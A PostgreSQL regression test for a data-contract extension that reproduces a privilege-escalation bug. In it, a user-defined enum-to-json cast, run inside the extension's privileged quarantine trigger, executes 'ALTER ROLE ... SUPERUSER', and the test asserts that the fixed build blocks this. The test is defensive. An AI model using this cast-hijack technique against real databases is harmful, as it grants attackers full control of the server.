-- Issue 12, C1(b): mallory attaches dmesh._contract_row in quarantine mode
-- to her own table, which has a column of her own enum type with her own
-- cast to json.  A row that breaks a rule is stored with to_jsonb() in the
-- privileged section (the extension owner, a superuser), which calls her
-- cast function: she makes herself superuser.
-- Fixed: the trigger refuses her table; to_jsonb of a source row never
-- runs as a superuser; mallory stays NOSUPERUSER.
\set VERBOSITY terse
CREATE ROLE atk2_team NOLOGIN;
CREATE ROLE atk2_mallory LOGIN NOINHERIT;
SELECT dmesh.create_domain('atk2', 'atk2_team') > 0 AS created;
CREATE SCHEMA atk2_src AUTHORIZATION atk2_team;
CREATE SCHEMA atk2_mallory AUTHORIZATION atk2_mallory;
SET ROLE atk2_team;
CREATE TABLE atk2_src.customers (customer_id bigint, email text, country text);
SELECT dmesh.create_data_product('atk2', 'atk2_customers', 'atk2_src.customers', contract => $y$
apiVersion: v3.1.0
kind: DataContract
id: atk2-customers
version: 1.0.0
status: active
schema:
  - name: customers
    properties:
      - {name: customer_id, logicalType: integer, required: true}
      - {name: email, logicalType: string, classification: pii}
      - name: country
        logicalType: string
        quality:
          - {metric: invalidValues, arguments: {validValues: [FR, DE, NL]}, mustBe: 0}
$y$) AS pid \gset
SELECT count(*) > 0 AS enforced FROM dmesh.enforce_contract('atk2.atk2_customers', 'quarantine');
RESET ROLE;

SET ROLE atk2_mallory;
CREATE TYPE atk2_mallory.e AS ENUM ('x');
CREATE FUNCTION atk2_mallory.e_json(atk2_mallory.e) RETURNS json LANGUAGE plpgsql AS $$BEGIN
  IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
    EXECUTE 'ALTER ROLE atk2_mallory SUPERUSER';
  END IF;
  RETURN '"x"'::json; END$$;
CREATE CAST (atk2_mallory.e AS json) WITH FUNCTION atk2_mallory.e_json(atk2_mallory.e);
CREATE TABLE atk2_mallory.t (customer_id bigint, email text, country text, extra atk2_mallory.e);
CREATE TRIGGER x BEFORE INSERT ON atk2_mallory.t FOR EACH ROW
  EXECUTE FUNCTION dmesh._contract_row(:'pid', 'quarantine');
-- country 'XX' breaks invalidValues: the row goes to quarantine via to_jsonb.
INSERT INTO atk2_mallory.t VALUES (1, 'a@b.c', 'XX', 'x');
RESET ROLE;

-- Harm: mallory is a superuser (t on the vulnerable build; must be f).
SELECT rolsuper AS mallory_is_superuser FROM pg_roles WHERE rolname = 'atk2_mallory';
-- Undo.
ALTER ROLE atk2_mallory NOSUPERUSER;

-- Even with the trigger refused, the owner's own quarantine must not run
-- a cast as a superuser: the source owner's table with an enum+json cast
-- of the owner's, quarantined by the owner's writes, runs the cast as the
-- owner at most (here the cast records who it ran as).
CREATE TABLE atk2_src.ran_as (who text, su boolean);
GRANT INSERT ON atk2_src.ran_as TO PUBLIC;
SET ROLE atk2_team;
CREATE TYPE atk2_src.e AS ENUM ('y');
CREATE FUNCTION atk2_src.e_json(atk2_src.e) RETURNS json LANGUAGE plpgsql AS $$BEGIN
  INSERT INTO atk2_src.ran_as SELECT current_user, rolsuper FROM pg_roles WHERE rolname = current_user;
  RETURN '"y"'::json; END$$;
CREATE CAST (atk2_src.e AS json) WITH FUNCTION atk2_src.e_json(atk2_src.e);
ALTER TABLE atk2_src.customers ADD COLUMN extra atk2_src.e;
INSERT INTO atk2_src.customers VALUES (2, 'c@d.e', 'XX', 'y');
RESET ROLE;
-- Harm: the owner's cast ran as a superuser (t; must be f, or no row).
SELECT bool_or(su) AS cast_ran_as_superuser FROM atk2_src.ran_as;
